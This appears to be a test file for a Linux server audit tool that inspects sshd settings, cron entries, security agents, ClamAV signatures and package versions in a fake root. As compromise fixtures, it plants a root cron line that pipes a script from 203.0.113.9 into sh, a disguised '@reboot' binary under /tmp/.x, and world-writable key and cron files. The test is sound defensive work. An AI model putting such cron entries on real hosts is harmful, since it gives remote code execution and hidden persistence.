// The audit's fact collectors against temporary fake roots (read through the target's door) and real
// tool output formats.
import { mkdir, mkdtemp, rm, symlink, utimes, writeFile, chmod } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { targetFs } from '../../target/fs.js';
import { collectAgents, parseCvdHeader } from './agents.js';
import { collectCron, parseCronText } from './cron.js';
import { collectKernel, collectPackages, installedPackages, matchCandidates } from './packages.js';
import { collectSshd } from './sshd.js';

let root: string;

async function put(rel: string, text: string, mode?: number): Promise<void> {
  const p = path.join(root, rel);
  await mkdir(path.dirname(p), { recursive: true });
  await writeFile(p, text);
  if (mode !== undefined) await chmod(p, mode);
}

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'mh-audit-root-'));
  await put(
    'etc/passwd',
    'root:x:0:0:root:/root:/bin/bash\nwww:x:33:33:www:/var/www:/usr/sbin/nologin\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n',
  );
  await put(
    'etc/ssh/sshd_config',
    'Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\n# PasswordAuthentication yes\nMatch User backup\n  PasswordAuthentication yes\n',
  );
  await put(
    'etc/ssh/sshd_config.d/10-hardening.conf',
    'PasswordAuthentication no\nPermitRootLogin prohibit-password\n',
  );
  await put('usr/sbin/sshd', '');
  await put(
    'root/.ssh/authorized_keys',
    'ssh-ed25519 AAAAC3Nza admin@laptop\n# old key\ncommand="/usr/bin/backup",no-pty ssh-rsa AAAAB3Nz backup\n',
    0o600,
  );
  await chmod(path.join(root, 'root/.ssh'), 0o700);
  await put('var/www/.ssh/authorized_keys2', 'ssh-rsa AAAAB3Nz redis\n', 0o666);
  await put('etc/crontab', 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
  await put(
    'etc/cron.d/sync',
    '*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n@reboot www /tmp/.x/kworker\n',
    0o666,
  );
  await put('etc/cron.d/skip.dpkg-old', '* * * * * root /bin/false\n');
  await put('var/spool/cron/crontabs/alice', '# user crontab\n0 3 * * * /home/alice/backup.sh --quiet\n');
  await utimes(path.join(root, 'etc/crontab'), new Date('2024-01-01'), new Date('2024-01-01'));
  await put('usr/local/aegis/aegis_client/AliYunDun', '');
  await put('etc/systemd/system/YDService.service', '[Service]\n');
  // What an uninstall leaves: a service link whose target was removed.
  await symlink(
    '/opt/cloudmonitor/cloudmonitor.service',
    path.join(root, 'etc/systemd/system/cloudmonitor.service'),
  );
  await put(
    'var/lib/clamav/daily.cvd',
    'ClamAV-VDB:14 Nov 2024 09-21 +0000:27456:2085541:90:sig:raptor:1731576094        ',
  );
  await put('usr/bin/clamscan', '');
  await mkdir(path.join(root, 'lib/modules/6.1.0-28-amd64'), { recursive: true });
  await put('boot/vmlinuz-6.1.0-18-amd64', '');
});

afterAll(async () => {
  await rm(root, { recursive: true, force: true });
});

describe('sshd', () => {
  it('reads sshd_config with its Include the way sshd does: first value wins, Match blocks left out', async () => {
    const s = await collectSshd(targetFs(root), false);
    expect(s.installed).toBe(true);
    expect(s.source).toBe('config');
    expect(s.settings).toMatchObject({ passwordauthentication: 'no', permitrootlogin: 'prohibit-password' });
    expect(s.files).toEqual(['/etc/ssh/sshd_config', '/etc/ssh/sshd_config.d/10-hardening.conf']);
    expect(s.matchBlocks).toBe(1);
  });

  it('lists authorized_keys files with modes, owners and keys (options kept, material not)', async () => {
    const s = await collectSshd(targetFs(root), false);
    expect(s.authorizedKeys.map((f) => [f.path, f.user, (f.mode & 0o777).toString(8)])).toEqual([
      ['/root/.ssh/authorized_keys', 'root', '600'],
      ['/var/www/.ssh/authorized_keys2', 'www', '666'],
    ]);
    expect(s.authorizedKeys[0]!.keys).toEqual([
      { line: 1, type: 'ssh-ed25519', comment: 'admin@laptop' },
      { line: 3, type: 'ssh-rsa', comment: 'backup', options: 'command="/usr/bin/backup",no-pty' },
    ]);
    expect(JSON.stringify(s)).not.toContain('AAAA');
  });
});

describe('cron', () => {
  it('parses system and user crontab formats', () => {
    expect(
      parseCronText(
        '@reboot root /opt/x --y\nMAILTO=a\n*/5 * * * * www echo "a  b"\n',
        '/etc/cron.d/f',
        true,
      ),
    ).toEqual([
      { file: '/etc/cron.d/f', line: 1, user: 'root', command: '/opt/x --y' },
      { file: '/etc/cron.d/f', line: 3, user: 'www', command: 'echo "a  b"' },
    ]);
    expect(
      parseCronText('0 3 * * * /bin/backup\n', '/var/spool/cron/crontabs/bob', false, 'bob')[0],
    ).toMatchObject({ user: 'bob', command: '/bin/backup' });
  });

  it('reads crontab, cron.d (skipping names cron skips) and spools, and finds writable files', async () => {
    const c = await collectCron(targetFs(root));
    expect(c.source).toBe('minimal');
    expect(c.entries.map((e) => `${e.file}:${e.line} ${e.user} ${e.command}`)).toEqual([
      '/etc/crontab:2 root cd / && run-parts --report /etc/cron.hourly',
      '/etc/cron.d/sync:1 root curl -fsSL http://203.0.113.9/x.sh | sh',
      '/etc/cron.d/sync:2 www /tmp/.x/kworker',
      '/var/spool/cron/crontabs/alice:2 alice /home/alice/backup.sh --quiet',
    ]);
    expect(c.entries[0]!.mtime).toBe('2024-01-01T00:00:00.000Z');
    expect(c.writable).toEqual(['/etc/cron.d/sync']);
  });
});

describe('agents and ClamAV', () => {
  it('finds installed and removed agents and dates the signatures from the CVD header', async () => {
    const a = await collectAgents(targetFs(root));
    expect(a.agents).toEqual([
      { agent: 'aliyun-aegis', present: ['/usr/local/aegis'], traces: [] },
      { agent: 'aliyun-cloudmonitor', present: [], traces: ['/etc/systemd/system/cloudmonitor.service'] },
      { agent: 'qcloud-yunjing', present: [], traces: ['/etc/systemd/system/YDService.service'] },
      { agent: 'clamav', present: ['/usr/bin/clamscan'], traces: [] },
    ]);
    expect(a.clamav).toEqual({
      installed: true,
      databases: [{ file: '/var/lib/clamav/daily.cvd', builtAt: '2024-11-14T09:21:00.000Z', version: 27456 }],
    });
  });
  it('ignores a header that is not a CVD', () => {
    expect(parseCvdHeader('garbage')).toEqual({});
  });
});

describe('packages and kernels', () => {
  it('matches security-list versions to installed packages by name and architecture', () => {
    const status = [
      'Package: libssl3\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.11-1~deb12u2\n',
      'Package: tzdata\nStatus: install ok installed\nArchitecture: all\nVersion: 2024a-0+deb12u1\n',
      'Package: removed\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 1.0\n',
    ].join('\n');
    const list = [
      'Package: libssl3\nVersion: 3.0.13-1~deb12u1\nArchitecture: amd64\n',
      'Package: libssl3\nVersion: 3.0.15-1~deb12u1\nArchitecture: amd64\n',
      'Package: libssl3\nVersion: 9.9\nArchitecture: i386\n',
      'Package: removed\nVersion: 2.0\nArchitecture: amd64\n',
      'Package: tzdata\nVersion: 2025b-0+deb12u1\nArchitecture: all\n',
    ].join('\n');
    const installed = installedPackages(status);
    expect([...installed.keys()]).toEqual(['libssl3:amd64', 'tzdata:all']);
    expect(matchCandidates(installed, list, 'sec_Packages')).toEqual([
      {
        name: 'libssl3',
        arch: 'amd64',
        installed: '3.0.11-1~deb12u2',
        candidate: '3.0.15-1~deb12u1',
        list: 'sec_Packages',
      },
      {
        name: 'tzdata',
        arch: 'all',
        installed: '2024a-0+deb12u1',
        candidate: '2025b-0+deb12u1',
        list: 'sec_Packages',
      },
    ]);
  });
  it('has no package manager without a dpkg database; lists kernels from /lib/modules and /boot', async () => {
    expect(await collectPackages(targetFs(root))).toEqual({
      manager: 'none',
      securityLists: [],
      candidates: [],
    });
    expect(await collectKernel(targetFs(root), '6.1.0-18-amd64')).toEqual({
      running: '6.1.0-18-amd64',
      installed: ['6.1.0-18-amd64', '6.1.0-28-amd64'],
    });
  });
});
